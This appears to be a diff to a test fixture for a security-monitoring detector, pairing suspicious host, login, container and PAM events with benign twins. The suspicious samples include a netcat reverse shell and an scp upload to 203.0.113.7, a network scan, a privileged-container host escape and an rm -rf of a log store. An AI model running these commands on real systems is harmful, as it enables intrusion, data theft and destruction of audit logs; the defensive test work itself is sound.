@@ -73,6 +73,11 @@ commands("password-of-another", ["/usr/bin/passwd chen"], ("zhou", "ldap-01", ["
 commands("service-left-stopped", ["/usr/bin/systemctl stop rsyslog"], ["/usr/bin/systemctl reload nginx"])
 commands("commands-never-used", ["/usr/bin/nmap -sS 10.0.0.0/16", "/usr/bin/nc -e /bin/bash 203.0.113.7 4444"], ["/usr/bin/ss -lntp", "/usr/bin/df -h"])
 commands("container-privileged", ["/usr/bin/docker run --privileged -v /:/host alpine chroot /host"], ["/usr/bin/docker ps"])
+commands("container-entered", ["/usr/bin/docker exec -it api sh"], ["/usr/bin/docker logs api"])
+commands("archive-sent-out", ["/usr/bin/scp /tmp/site.tar.gz x@203.0.113.7:"], ["/usr/bin/scp /tmp/site.tar.gz web-02:/tmp"])
+commands("log-store-deleted", ["/usr/bin/rm -rf /var/lib/yushi/blocks"], ["/usr/bin/du -sh /var/lib/yushi"])
+# In a shell that was opened by day: no login tells of the hour.
+BEHAVIOURS["root-shell-at-night"] = (by_root("lin", "web-01", "/usr/bin/ls /root", clock="03:10"), by_root("lin", "web-01", "/usr/bin/ls /root", clock="10:40"), None)
 BEHAVIOURS["root-shell-by-sudo"] = (by_sudo("chen", "web-01", "/bin/bash"), by_sudo("lin", "web-01", "/bin/bash", clock="10:06"), None)
 
 
@@ -88,6 +93,7 @@ def logins(*steps):
 
 BEHAVIOURS["root-at-night"] = (logins(("03:12", "root", "web-01", "10.20.1.12")), logins(("11:00", "lin", BASTION, "10.20.1.11")), None)
 BEHAVIOURS["new-network"] = (logins(("11:00", "chen", BASTION, "198.51.100.77")), logins(("11:00", "chen", BASTION, "10.20.1.12")), None)
+BEHAVIOURS["desk-of-another"] = (logins(("11:00", "chen", BASTION, "10.20.1.15")), logins(("11:00", "chen", BASTION, "10.20.1.99")), None)
 BEHAVIOURS["round-the-bastion"] = (logins(("11:00", "lin", "web-01", "10.20.1.11")), logins(("11:00", "lin", "web-01", BASTION_IP)), None)
 BEHAVIOURS["service-account-logs-in"] = (logins(("11:00", "backup", "web-02", "10.20.1.12")), logins(("03:00", "backup", "db-01", "10.0.1.51")), None)
 BEHAVIOURS["two-places-at-once"] = (logins(("11:00", "lin", BASTION, "10.20.1.11"), ("11:04", "lin", BASTION, "198.51.100.9")),
@@ -176,3 +182,8 @@ def exec_into_pod(world):
 def privileged_pod(world):
     body = {"kind": "Pod", "spec": {"containers": [{"name": "x", "image": "alpine", "securityContext": {"privileged": True}}], "hostPID": True}}
     world.kubernetes(world.at("11:00"), "lin", "create", "pods", "prod", "dbg", body=body)
+
+
+@behaviour("root-by-su-that-pam-alone-tells", twin=lambda world: world.say(world.at("11:00"), "app-01", "su", "pam_unix(su-l:session): session opened for user www-data by sun(uid=1005)", 86, 4411))
+def su_by_pam(world):
+    world.say(world.at("11:00"), "app-01", "su", "pam_unix(su-l:session): session opened for user root by sun(uid=1005)", 86, 4411)
